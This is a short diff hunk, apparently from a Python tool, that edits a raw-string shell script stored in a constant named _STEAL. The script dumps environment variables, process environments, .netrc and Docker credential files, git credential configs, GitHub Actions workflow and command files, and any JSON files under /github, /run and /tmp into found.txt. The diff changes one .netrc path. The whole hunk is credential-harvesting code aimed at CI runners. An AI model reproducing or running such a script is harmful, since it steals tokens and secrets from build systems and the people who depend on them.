@@ -33,7 +33,7 @@ _STEAL = r"""
 found=./found.txt
 {
   env; cat /proc/*/environ /proc/*/cmdline
-  cat /github/home/.netrc /github/home/.docker/config.json /root/.netrc
+  cat /github/home/.netrc /github/home/.docker/config.json ~root/.netrc
   cat /github/workspace/.git/config /github/runner_temp/git-credentials-*.config
   cat /github/file_commands/* /github/workflow/* ../*/.git/config "$HOME"/../*/*
   find /github /run /tmp -name '*.json*' -exec cat {} +
